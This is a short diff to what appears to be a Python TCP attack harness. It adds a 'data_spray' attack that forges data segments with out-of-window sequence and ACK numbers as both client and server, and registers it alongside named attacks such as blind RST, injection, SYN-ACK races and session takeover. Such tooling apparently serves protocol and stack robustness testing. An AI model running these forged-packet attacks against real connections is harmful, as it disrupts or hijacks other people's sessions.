@@ -401,6 +401,20 @@ def a_spray(at):
         time.sleep(at.args.gap)
 
 
+def a_data_spray(at):
+    """Blind spraying with data: segments far outside both windows, with ACKs far
+    beyond anything sent, alternately as the client and as the server, no timestamps."""
+    if not at.wait_for(lambda f: at.from_server(f) and f.payload, "server data"):
+        return
+    for i in range(at.args.count):
+        side = "c" if i % 2 == 0 else "s"
+        me, peer = (at.c, at.s) if side == "c" else (at.s, at.c)
+        at.forge(side, "PA", (me.nxt + 0x40000000 + i * 1000) & 0xFFFFFFFF,
+                 (peer.nxt + 0x30000000 + i * 777) & 0xFFFFFFFF, b"spray", ts=False,
+                 note="data spray %d" % i if i < 3 else "")
+        time.sleep(at.args.gap)
+
+
 def a_ttl_inject(at):
     """Data injected as the client with another TTL/hop limit and no timestamps."""
     if _after_exchange(at, at.args.after):
@@ -442,6 +456,7 @@ ATTACKS = {"rst_blind": a_rst_blind, "rst_exact": a_rst_exact, "inject_data": a_
            "inject_data_frag": a_inject_data_frag, "frag_overlap": a_frag_overlap,
            "race_response": a_race_response, "synack_race": a_synack_race,
            "early_desync": a_early_desync, "inject_fin": a_inject_fin, "spray": a_spray,
+           "data_spray": a_data_spray,
            "ttl_inject": a_ttl_inject, "ack_ahead": a_ack_ahead, "syn_established": a_syn_established,
            "takeover": a_takeover}
 
